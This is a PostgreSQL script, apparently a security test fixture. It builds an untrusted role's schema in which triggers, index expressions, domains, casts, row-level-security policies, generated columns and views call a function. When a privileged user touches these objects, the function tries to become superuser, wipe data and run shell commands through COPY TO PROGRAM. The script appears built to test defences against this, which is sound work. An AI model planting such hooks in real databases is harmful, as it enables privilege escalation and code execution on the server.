-- A role that owns one schema and nothing else, and whose code tries to become more whenever somebody else runs it.
ALTER ROLE dbre_mallory LOGIN;
CREATE TABLE treasure (coins int);
INSERT INTO treasure VALUES (100);
CREATE SCHEMA m AUTHORIZATION dbre_mallory;
-- A physical copy of the server writes to its own directory, as the other does.
CREATE FUNCTION public.place() RETURNS text LANGUAGE sql SECURITY DEFINER AS $$ SELECT current_setting('data_directory') $$;
\connect - dbre_mallory
SET dbre.quiet = on;
CREATE TABLE m.seen (who text, place text);
CREATE FUNCTION m.try(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE what;
EXCEPTION WHEN OTHERS THEN
  NULL;
END $$;
CREATE FUNCTION m.steal() RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || public.place() || '/stolen');
END $$;
CREATE FUNCTION m.attack(place text) RETURNS int LANGUAGE plpgsql AS $$
DECLARE attempt text;
BEGIN
  IF current_setting('dbre.silent', true) = 'on' THEN
    RETURN 1;
  END IF;
  BEGIN
    INSERT INTO m.seen VALUES (current_user, place);
  EXCEPTION WHEN OTHERS THEN
    NULL;
  END;
  -- What would be another's afterwards, where that is allowed to everybody.
  IF current_user <> 'dbre_mallory' THEN
    PERFORM m.try(format('CREATE FUNCTION m.left_%s() RETURNS int LANGUAGE sql SECURITY DEFINER AS ''SELECT 1''',
                         (random() * 1e9)::int));
    PERFORM m.try(format('CREATE VIEW m.left_%s AS SELECT * FROM public.treasure', (random() * 1e9)::int));
  END IF;
  IF current_setting('dbre.quiet', true) = 'on' OR current_user = 'dbre_mallory' AND place LIKE '%later' THEN
    RETURN 1;
  END IF;
  FOREACH attempt IN ARRAY ARRAY['SELECT 1', 'RESET ROLE', 'SET ROLE NONE', 'SET SESSION AUTHORIZATION DEFAULT',
                                 'RESET SESSION AUTHORIZATION'] LOOP
    PERFORM m.try(attempt);
    PERFORM m.try('ALTER ROLE dbre_mallory SUPERUSER');
    PERFORM m.try('UPDATE public.treasure SET coins = 0');
    PERFORM m.try('SELECT m.steal()');
    PERFORM m.try('SELECT lo_export(lo_from_bytea(0, ''1''), public.place() || ''/stolen'')');
  END LOOP;
  -- What runs only at the end of the transaction, or in a later statement of the same session.
  PERFORM m.try(format('DECLARE c%s CURSOR WITH HOLD FOR SELECT m.attack(%L)', (random() * 1e9)::int, place || ' later'));
  PERFORM m.try(format('INSERT INTO m.later VALUES (%L)', place || ' later'));
  PERFORM m.try('CREATE TEMP TABLE pg_class (oid oid)');
  PERFORM m.try('CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (m.attack(''temporary type later'') > 0)');
  PERFORM m.try('SET search_path = m, pg_catalog');
  PERFORM m.try('SET session_replication_role = origin');
  RETURN 1;
END $$;
CREATE FUNCTION m.fired() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM m.attack(TG_ARGV[0]);
  RETURN NULL;
END $$;
CREATE FUNCTION m.ok(place text) RETURNS bool LANGUAGE sql AS $$ SELECT m.attack(place) > 0 $$;
-- Says that it never changes anything, so that it may stand in indexes, and that its result is known beforehand.
CREATE FUNCTION m.one(place text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
  RETURN m.attack(place);
END $$;
CREATE TABLE m.later (place text);
CREATE FUNCTION m.fired_later() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM m.attack(NEW.place);
  RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER later AFTER INSERT ON m.later DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION m.fired_later();
-- Names that a search_path of ours could find.
CREATE FUNCTION m.count(int) RETURNS int LANGUAGE sql AS $$ SELECT m.attack('count') $$;

CREATE TYPE m.color AS ENUM ('red', 'blue');
CREATE FUNCTION m.to_text(m.color) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM m.attack('cast'); RETURN 'red'; END $$;
CREATE CAST (m.color AS text) WITH FUNCTION m.to_text(m.color) AS ASSIGNMENT;
CREATE DOMAIN m.amount AS int CHECK (m.ok('domain'));
-- Of which no entry of a dump says that it calls anything.
CREATE DOMAIN m.printed AS int CHECK (query_to_xml('SELECT m.attack(''constant'')', true, true, '') IS NOT NULL);
CREATE TYPE m.pair AS (a int, b m.amount);
CREATE TABLE m.checked (id int PRIMARY KEY, v text CHECK (m.ok('check')));
CREATE TABLE m.written (id int PRIMARY KEY, v text CHECK (query_to_xml('SELECT m.attack(''builtin'')', true, true, '') IS NOT NULL));
CREATE TABLE m.typed (id int PRIMARY KEY, v m.amount, w m.pair, x m.amount[]);
CREATE TABLE m.constant (id int PRIMARY KEY, v m.printed[] DEFAULT '{0}');
CREATE TABLE m.colored (id int PRIMARY KEY, v m.color, w m.color[]);
CREATE TABLE m.computed (id int PRIMARY KEY, v int, w int GENERATED ALWAYS AS (v + m.one('generated')) STORED);
CREATE TABLE m.indexed (id int PRIMARY KEY, v int);
CREATE INDEX ON m.indexed ((v + m.one('index')));
CREATE INDEX ON m.indexed (v) WHERE m.one('predicate') = 1;
CREATE STATISTICS m.counted ON (v + m.one('statistics')), id FROM m.indexed;
CREATE TABLE m.parted (id int, v text, PRIMARY KEY (id, v)) PARTITION BY LIST (v);
CREATE TABLE m.parted_a PARTITION OF m.parted FOR VALUES IN ('a');
CREATE TABLE m.parted_b (id int NOT NULL, v text NOT NULL CHECK (m.ok('partition')));
ALTER TABLE m.parted ATTACH PARTITION m.parted_b DEFAULT;
CREATE TABLE m.keyed (id int, v int) PARTITION BY RANGE ((v + m.one('partition key')));
CREATE TABLE m.keyed_a PARTITION OF m.keyed FOR VALUES FROM (0) TO (1000000);
CREATE TABLE m.triggered (id int PRIMARY KEY, v text DEFAULT m.attack('default')::text);
CREATE TRIGGER always AFTER INSERT OR UPDATE OR DELETE ON m.triggered
  FOR EACH ROW EXECUTE FUNCTION m.fired('trigger');
ALTER TABLE m.triggered ENABLE ALWAYS TRIGGER always;
CREATE CONSTRAINT TRIGGER deferred AFTER INSERT OR UPDATE OR DELETE ON m.triggered DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION m.fired('deferred trigger');
ALTER TABLE m.triggered ENABLE ALWAYS TRIGGER deferred;
CREATE TABLE m.secured (id int PRIMARY KEY, v text);
ALTER TABLE m.secured ENABLE ROW LEVEL SECURITY;
ALTER TABLE m.secured FORCE ROW LEVEL SECURITY;
CREATE POLICY everything ON m.secured USING (m.ok('policy')) WITH CHECK (m.ok('policy'));
CREATE TABLE m.child (id int PRIMARY KEY, parent int REFERENCES m.checked);

INSERT INTO m.checked SELECT g, 'x' FROM generate_series(1, 3) g;
INSERT INTO m.written SELECT g, 'x' FROM generate_series(1, 3) g;
INSERT INTO m.typed SELECT g, g, ROW(g, g)::m.pair, ARRAY[g]::m.amount[] FROM generate_series(1, 3) g;
INSERT INTO m.constant SELECT g FROM generate_series(1, 3) g;
INSERT INTO m.colored VALUES (1, 'red', '{red,blue}'), (2, 'blue', NULL), (3, NULL, '{}');
INSERT INTO m.computed SELECT g, g FROM generate_series(1, 3) g;
INSERT INTO m.indexed SELECT g, g FROM generate_series(1, 3) g;
INSERT INTO m.parted VALUES (1, 'a'), (2, 'b'), (3, 'c');
INSERT INTO m.keyed VALUES (1, 1), (2, 2), (3, 3);
INSERT INTO m.triggered SELECT g, 'x' FROM generate_series(1, 3) g;
INSERT INTO m.secured SELECT g, 'x' FROM generate_series(1, 3) g;
INSERT INTO m.child SELECT g, g FROM generate_series(1, 3) g;
CREATE VIEW m.shown AS SELECT id, m.attack('view') AS v FROM m.checked;
CREATE MATERIALIZED VIEW m.stored AS SELECT id, m.attack('materialized view') AS v FROM m.checked;
TRUNCATE m.seen;
